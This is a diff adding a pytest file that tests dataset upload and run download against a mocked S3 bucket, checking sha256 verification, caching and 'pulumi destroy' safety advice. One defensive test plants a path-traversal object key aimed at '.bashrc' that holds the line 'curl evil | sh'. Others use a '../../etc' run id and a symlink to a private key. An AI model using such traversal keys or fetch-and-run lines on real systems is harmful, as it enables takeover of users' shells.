@@ -1,0 +1,229 @@
+"""`fab upload-data` and `fab download` against S3 (moto), with the local box."""
+
+import hashlib
+import json
+
+import numpy as np
+import pytest
+
+from tests.ops.conftest import assert_one_line_error
+from trainer.config import UserError
+from trainer.data.manifest import fetch
+
+
+@pytest.fixture
+def s3_box(local_box, moto_server):
+    """The local box with its storage in a fresh moto bucket."""
+    bucket_uri = moto_server.create_bucket(prefix="stack")
+    local_box.write_target(storageUri=bucket_uri)
+    local_box.env.update(moto_server.env)
+    return local_box, bucket_uri
+
+
+def _split(uri):
+    bucket, _, prefix = uri.removeprefix("s3://").partition("/")
+    return bucket, prefix
+
+
+def _dataset(directory):
+    directory.mkdir()
+    rng = np.random.default_rng(0)
+    np.save(directory / "windows.npy", rng.standard_normal((64, 100)).astype(np.float16))
+    np.save(directory / "glucose.npy", rng.uniform(70, 200, 64).astype(np.float32))
+    np.save(directory / "case_id.npy", np.repeat(np.arange(8, dtype=np.int32), 8))
+    (directory / "meta.json").write_text('{"window_length": 100}\n')
+    return directory
+
+
+def _sha(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def test_upload_data_puts_every_file_and_a_manifest(s3_box, moto_server, tmp_path):
+    box, bucket_uri = s3_box
+    data = _dataset(tmp_path / "synthetic-small")
+    result = box.fab("upload-data", "--data", str(data))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == f"{bucket_uri}/datasets/synthetic-small"
+    bucket, prefix = _split(bucket_uri)
+    s3 = moto_server.client()
+    manifest_key = f"{prefix}/datasets/synthetic-small/manifest.json"
+    manifest = json.loads(s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read())
+    assert sorted(manifest["files"]) == ["case_id.npy", "glucose.npy", "meta.json", "windows.npy"]
+    for name, entry in manifest["files"].items():
+        body = s3.get_object(Bucket=bucket, Key=f"{prefix}/datasets/synthetic-small/{name}")
+        assert _sha(body["Body"].read()) == entry["sha256"] == _sha((data / name).read_bytes())
+
+
+def test_upload_data_again_sends_nothing(s3_box, tmp_path):
+    box, _ = s3_box
+    data = _dataset(tmp_path / "again")
+    assert box.fab("upload-data", "--data", str(data)).returncode == 0
+    second = box.fab("upload-data", "--data", str(data))
+    assert second.returncode == 0, second.stderr
+    assert "already holds this dataset" in second.stderr
+
+
+def test_upload_data_refuses_a_directory_that_is_no_dataset(s3_box, tmp_path):
+    box, _ = s3_box
+    (tmp_path / "empty").mkdir()
+    result = box.fab("upload-data", "--data", str(tmp_path / "empty"))
+    assert result.returncode == 1
+    assert "has no windows.npy" in result.stderr
+
+
+def test_box_side_fetch_verifies_and_caches(s3_box, moto_server, tmp_path, monkeypatch):
+    box, bucket_uri = s3_box
+    for name, value in moto_server.env.items():
+        monkeypatch.setenv(name, value)
+    data = _dataset(tmp_path / "fetched")
+    assert box.fab("upload-data", "--data", str(data)).returncode == 0
+    uri = f"{bucket_uri}/datasets/fetched"
+    cache = tmp_path / "cache" / "fetched"
+    assert "sha256 verified" in fetch(uri, cache)
+    assert (cache / "windows.npy").read_bytes() == (data / "windows.npy").read_bytes()
+    assert "already cached" in fetch(uri, cache)
+
+
+def test_box_side_fetch_rejects_a_damaged_object(s3_box, moto_server, tmp_path, monkeypatch):
+    box, bucket_uri = s3_box
+    for name, value in moto_server.env.items():
+        monkeypatch.setenv(name, value)
+    data = _dataset(tmp_path / "damaged")
+    assert box.fab("upload-data", "--data", str(data)).returncode == 0
+    bucket, prefix = _split(bucket_uri)
+    key = f"{prefix}/datasets/damaged/glucose.npy"
+    moto_server.client().put_object(Bucket=bucket, Key=key, Body=b"not the data")
+    with pytest.raises(UserError, match=r"glucose\.npy: sha256"):
+        fetch(f"{bucket_uri}/datasets/damaged", tmp_path / "cache2")
+
+
+RUN_FILES = {
+    "metrics.jsonl": b'{"step": 1, "train_loss": 0.5}\n{"step": 2, "train_loss": 0.4}\n',
+    "summary.json": b'{"best_epoch": 1}\n',
+    "checkpoints/last.pt": b"checkpoint bytes" * 1000,
+    "checkpoints/LATEST": b"last.pt\n",
+}
+
+
+def _put_run(box, moto_server, bucket_uri, run_id, *, box_copy=True):
+    """A run as the trainer leaves it: mirrored to S3 and on the box's disk."""
+    bucket, prefix = _split(bucket_uri)
+    s3 = moto_server.client()
+    files = dict(RUN_FILES)
+    digest = _sha(files["checkpoints/last.pt"])
+    files["checkpoints/last.pt.sha256"] = f"{digest}  last.pt\n".encode()
+    for name, body in files.items():
+        s3.put_object(Bucket=bucket, Key=f"{prefix}/runs/{run_id}/{name}", Body=body)
+        if box_copy:
+            path = box.root / "runs" / run_id / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_bytes(body)
+    return files
+
+
+def test_download_fetches_every_file_verified_and_says_destroy_is_safe(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    files = _put_run(box, moto_server, bucket_uri, "r1")
+    to = tmp_path / "results"
+    result = box.fab("download", "--run", "r1", "--to", str(to))
+    assert result.returncode == 0, result.stderr
+    for name, body in files.items():
+        assert (to / name).read_bytes() == body
+    manifest = json.loads((to / "manifest.json").read_text())
+    assert {k: v["sha256"] for k, v in manifest["files"].items()} == {
+        k: _sha(v) for k, v in files.items()
+    }
+    assert f"{len(files)} files fetched" in result.stdout
+    assert "safe to `pulumi destroy`" in result.stderr
+
+
+def test_download_again_fetches_nothing(s3_box, moto_server, tmp_path):
+    box, bucket_uri = s3_box
+    files = _put_run(box, moto_server, bucket_uri, "r2")
+    to = tmp_path / "results"
+    assert box.fab("download", "--run", "r2", "--to", str(to)).returncode == 0
+    again = box.fab("download", "--run", "r2", "--to", str(to))
+    assert again.returncode == 0, again.stderr
+    assert f"0 files fetched, {len(files)} already here" in again.stdout
+
+
+def test_download_refuses_a_checkpoint_that_does_not_match_its_sidecar(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r3", box_copy=False)
+    bucket, prefix = _split(bucket_uri)
+    key = f"{prefix}/runs/r3/checkpoints/last.pt"
+    moto_server.client().put_object(Bucket=bucket, Key=key, Body=b"truncated")
+    result = box.fab("download", "--run", "r3", "--to", str(tmp_path / "d"), "--offline")
+    assert result.returncode == 1
+    assert "checkpoints/last.pt: sha256" in result.stderr
+    assert not (tmp_path / "d" / "checkpoints" / "last.pt").exists()
+
+
+def test_download_warns_when_the_box_holds_files_storage_lacks(s3_box, moto_server, tmp_path):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r4")
+    (box.root / "runs" / "r4" / "report.md").write_text("not uploaded yet\n")
+    result = box.fab("download", "--run", "r4", "--to", str(tmp_path / "d"))
+    assert result.returncode == 0, result.stderr
+    assert "not safe to `pulumi destroy`" in result.stderr
+    assert "report.md" in result.stderr
+
+
+def test_download_refuses_a_key_that_climbs_out_and_says_destroy_is_not_safe(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r5")
+    bucket, prefix = _split(bucket_uri)
+    hostile = f"{prefix}/runs/r5/../../../../.bashrc"
+    moto_server.client().put_object(Bucket=bucket, Key=hostile, Body=b"curl evil | sh\n")
+    to = tmp_path / "a" / "b" / "c" / "results"
+    result = box.fab("download", "--run", "r5", "--to", str(to))
+    assert result.returncode == 0, result.stderr
+    assert "refused object key '../../../../.bashrc'" in result.stderr
+    assert "not safe to `pulumi destroy`: 1 stored keys were refused" in result.stderr
+    assert not (tmp_path / ".bashrc").exists()
+    assert "../../../../.bashrc" not in (to / "manifest.json").read_text()
+
+
+def test_download_refuses_a_run_id_that_is_a_path(s3_box, tmp_path):
+    box, _ = s3_box
+    result = box.fab("download", "--run", "../../etc", "--offline", "--to", str(tmp_path / "d"))
+    assert_one_line_error(result, "--run '../../etc' is not a usable name")
+
+
+def test_upload_data_refuses_a_symlink_out_of_the_dataset(tmp_path):
+    from invoke.exceptions import Exit
+
+    from ops.data.transfer import upload_dataset
+
+    data = _dataset(tmp_path / "handed-to-me")
+    (tmp_path / "id_ed25519").write_text("PRIVATE KEY\n")
+    (data / "notes.txt").symlink_to(tmp_path / "id_ed25519")
+    store = tmp_path / "store"
+    with pytest.raises(Exit, match=r"notes\.txt is a symlink to .*id_ed25519, outside"):
+        upload_dataset(data, f"file://{store}")
+    assert not store.exists()
+
+
+def test_download_of_an_upload_pending_run_says_where_the_missing_files_are(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r6")
+    run_dir = box.root / "runs" / "r6"
+    (run_dir / "report.md").write_text("# the report\n")  # storage was down at the end
+    (run_dir / "checkpoints" / "step-000000009-epoch-0002.pt").write_bytes(b"final weights")
+    (run_dir / "status.json").write_text('{"state": "finished-upload-pending"}\n')
+    result = box.fab("download", "--run", "r6", "--to", str(tmp_path / "d"))
+    assert result.returncode == 0, result.stderr
+    advice = result.stderr.strip().splitlines()[-1]
+    assert "not safe to `pulumi destroy`: 3 files exist only on the box" in advice
+    assert "its last uploads are pending" in advice
+    assert f"{box.server.user}@{box.server.host}:{run_dir}" in advice
+    assert "docker start glucose-train-r6" in advice
